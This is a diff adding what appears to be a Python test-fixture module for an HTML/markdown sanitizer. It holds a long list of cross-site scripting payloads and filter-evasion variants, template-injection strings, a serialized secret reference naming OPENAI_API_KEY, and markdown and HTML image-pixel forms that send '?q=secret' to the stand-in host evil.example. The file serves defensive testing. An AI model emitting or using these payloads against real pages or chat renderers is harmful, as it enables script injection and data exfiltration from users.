@@ -1,0 +1,120 @@
+"""Text that would run, load or send something wherever it were taken for more than text."""
+
+from __future__ import annotations
+
+import itertools
+
+EVIL = "http://evil.example"
+
+_BY_HAND = [
+    "<script>alert(1)</script>",
+    "<ScRiPt >alert(1)</sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    f"<script src={EVIL}/x.js></script>",
+    "<script src=//evil.example/x.js></script>",
+    "<script>/*",
+    "*/alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><script href=data:,alert(1) />",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
+    f"<svg><image href={EVIL}/x.svg></svg>",
+    f"<svg><use href={EVIL}/x.svg#a></use></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    f"<iframe src={EVIL}></iframe>",
+    f"<object data={EVIL}></object>",
+    "<object data=javascript:alert(1)></object>",
+    f"<embed src={EVIL}>",
+    f"<applet code={EVIL}></applet>",
+    f"<form action={EVIL}><button>x</button></form>",
+    f"<form><button formaction={EVIL}>x</button></form>",
+    f"<isindex action={EVIL} type=image>",
+    f"<base href={EVIL}/>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    f"<link rel=stylesheet href={EVIL}/x.css>",
+    f"<link rel=prefetch href={EVIL}/x>",
+    f"<link rel=dns-prefetch href={EVIL}>",
+    f"<style>@import '{EVIL}/x.css';</style>",
+    f"<style>*{{background:url({EVIL}/x)}}</style>",
+    f"<p style=background:url({EVIL}/x)>x</p>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
+    "<a href=vbscript:msgbox(1)>x</a>",
+    f"<a href={EVIL} ping={EVIL}>x</a>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
+    "<plaintext>",
+    "<dialog open>x</dialog>",
+    "<slot name=x></slot>",
+    "\"><svg onload=alert(1)>",
+    "'><svg onload=alert(1)>",
+    "`><svg onload=alert(1)>",
+    "\" autofocus onfocus=\"alert(1)",
+    "' autofocus onfocus='alert(1)",
+    "x onmouseover=alert(1) y",
+    "${alert(1)}",
+    "`${alert(1)}`",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{{#with 'x' as |s|}}{{alert(1)}}{{/with}}",
+    "#{alert(1)}",
+    "<%= alert(1) %>",
+    "javascript:alert(1)",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\\x3cscript\\x3ealert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "<img src=x onerror=alert(1)",
+    "<img src=x onerror=alert(1)//",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src='x'onerror='alert(1)'>",
+    "<\u0131mg src=x onerror=alert(1)>",
+    "<img src=x on\u200berror=alert(1)>",
+    "\u202e<img src=x onerror=alert(1)>",
+    "\ufeff<script>alert(1)</script>",
+    "<__proto__ onclick=alert(1)>x</__proto__>",
+    '{"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}',
+    "{x.__class__.__mro__}",
+]  # fmt: skip
+
+_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open",
+         "input autofocus", "marquee", "iframe", "x tabindex=1")  # fmt: skip
+_HANDLERS = ("onerror", "onload", "onfocus", "onclick", "onpointerenter", "onanimationstart",
+             "ontoggle")  # fmt: skip
+
+XSS = [
+    *_BY_HAND,
+    *(f"<{tag} {handler}=alert(1)>" for tag, handler in itertools.product(_TAGS, _HANDLERS)),
+]
+"""For each of them: no dialog, no element of theirs, no request, no report of the policy."""
+
+_TARGETS = (EVIL, "//evil.example", "https://evil.example", "http://evil.example@127.0.0.1")
+_FORMS = (
+    "![pixel]({0}/p.png?q=secret)",
+    "[![pixel]({0}/p.png)]({0}/go)",
+    "![pixel][1]\n\n[1]: {0}/p.png",
+    "[click]({0}/go?q=secret)",
+    "<{0}/auto>",
+    "{0}/bare?q=secret",
+    "<img src={0}/p.png>",
+    "<img srcset='{0}/p.png 1x'>",
+    "<picture><source srcset={0}/p.png><img></picture>",
+    "<p style=\"background-image:url('{0}/p.png')\">",
+)
+EXFILTRATION = [form.format(target) for form in _FORMS for target in _TARGETS]
+"""For each of them: no request leaves the origin."""
